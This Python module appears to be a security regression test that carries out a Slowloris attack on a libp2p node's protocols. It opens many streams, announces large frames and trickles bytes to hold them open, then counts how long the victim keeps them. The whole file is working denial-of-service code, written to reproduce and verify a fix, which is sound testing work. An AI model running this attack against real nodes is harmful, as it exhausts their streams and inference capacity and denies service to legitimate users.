"""Slowloris on every protocol (issue 14, finding 2), as an outsider would write it.

Plain py-libp2p hosts (Noise only, fresh Ed25519 identities) open streams to the victim
on its own protocols (``/prefixmesh/infer/1.0.0``, ``/prefixmesh/digest/1.0.0``,
``/prefixmesh/digest-part/1.0.0``, ``/prefixmesh/peers/1.0.0``,
``/prefixmesh/swim/1.1.0``, or ``/prefixmesh/ping/1.0.0`` at a heartbeat node): each stream announces a large frame with its 4-byte
big-endian length prefix and then sends one byte every ``gap_s``, for as long as the
victim keeps the stream open. When the victim cuts a stream (reset, or an answer and
end of stream) the attacker opens another in its place, until ``duration_s`` is over
(or ``stop`` is set: the caller has seen what it needed).
Before the fix a trickle held a stream (and an infer slot) forever: reads had a timeout
each, frames none. Nothing here imports prefixmesh.
"""

from __future__ import annotations

import struct
import time

import trio

from .digest_flood import make_host

PROTOCOLS = {
    "infer": "/prefixmesh/infer/1.0.0",
    "digest": "/prefixmesh/digest/1.0.0",
    "partition": "/prefixmesh/digest-part/1.0.0",
    "peers": "/prefixmesh/peers/1.0.0",
    "swim": "/prefixmesh/swim/1.1.0",  # membership, the node's default
    "ping": "/prefixmesh/ping/1.0.0",  # membership with ``--membership heartbeat``
}


class Figures:
    def __init__(self) -> None:
        self.opened = 0  # streams the victim accepted (negotiated)
        self.refused = 0  # stream opens that failed
        self.cut = 0  # streams the victim ended while we were still trickling
        self.held_s: list[float] = []  # how long each cut stream lasted
        self.bytes_sent = 0
        self.errors: dict[str, int] = {}  # why opens failed

    def as_dict(self) -> dict:
        held = sorted(self.held_s)
        return {"opened": self.opened, "refused": self.refused, "cut": self.cut,
                "bytes_sent": self.bytes_sent, "open_errors": self.errors,
                "longest_held_s": round(held[-1], 2) if held else 0.0,
                "median_held_s": round(held[len(held) // 2], 2) if held else 0.0}


def _going(stop_at: float, stop: trio.Event) -> bool:
    return time.monotonic() < stop_at and not stop.is_set()


async def _one_stream(host, peer_id, protocol: str, announced: int, gap_s: float,
                      stop_at: float, stop: trio.Event, figures: Figures) -> None:
    from libp2p.custom_types import TProtocol

    while _going(stop_at, stop):
        try:
            with trio.fail_after(10):
                stream = await host.new_stream(peer_id, [TProtocol(protocol)])
        except Exception as exc:  # noqa: BLE001 - refused, reset or timed out: retry later
            figures.refused += 1
            why = type(exc).__name__
            figures.errors[why] = figures.errors.get(why, 0) + 1
            await trio.sleep(gap_s)
            continue
        figures.opened += 1
        t0 = time.monotonic()
        payload = struct.pack(">I", announced)
        cut = False
        try:
            await stream.write(payload[:2])  # even the length prefix trickles
            figures.bytes_sent += 2
            pending = payload[2:]
            while _going(stop_at, stop):
                with trio.move_on_after(gap_s):
                    while True:  # anything the victim says, until it ends the stream
                        await stream.read(65536)
                chunk, pending = (pending[:1], pending[1:]) if pending else (b"\0", b"")
                await stream.write(chunk)
                figures.bytes_sent += 1
        except Exception:  # noqa: BLE001 - the victim reset or closed the stream
            cut = True
        if cut:
            figures.cut += 1
            figures.held_s.append(time.monotonic() - t0)
        else:
            try:
                await stream.reset()
            except Exception:  # noqa: BLE001
                pass


async def slowloris(victim_addr: str, protocols: list[str], *, identities: int = 1,
                    streams: int = 8, announced: int = 512 * 1024, gap_s: float = 2.0,
                    duration_s: float = 20.0, started: trio.Event | None = None,
                    stop: trio.Event | None = None, live: dict | None = None) -> dict:
    """Run the attack; returns figures per protocol name (see :data:`PROTOCOLS`).
    ``stop`` ends it before ``duration_s`` (each stream at its next gap); ``live`` gets
    the running :class:`Figures` per protocol name."""
    import multiaddr
    from libp2p.peer.peerinfo import info_from_p2p_addr

    info = info_from_p2p_addr(multiaddr.Multiaddr(victim_addr))
    figures = {name: Figures() for name in protocols}
    if live is not None:
        live.update(figures)
    stop = stop if stop is not None else trio.Event()
    stop_at = time.monotonic() + duration_s

    async def attacker(task_status=trio.TASK_STATUS_IGNORED) -> None:
        host = make_host()
        async with host.run(listen_addrs=[multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
            with trio.fail_after(20):
                await host.connect(info)
            task_status.started()
            async with trio.open_nursery() as nursery:
                for name in protocols:
                    for _ in range(streams):
                        nursery.start_soon(_one_stream, host, info.peer_id, PROTOCOLS[name],
                                           announced, gap_s, stop_at, stop, figures[name])

    async with trio.open_nursery() as nursery:
        for _ in range(identities):
            await nursery.start(attacker)
        if started is not None:
            started.set()
    return {name: f.as_dict() for name, f in figures.items()}
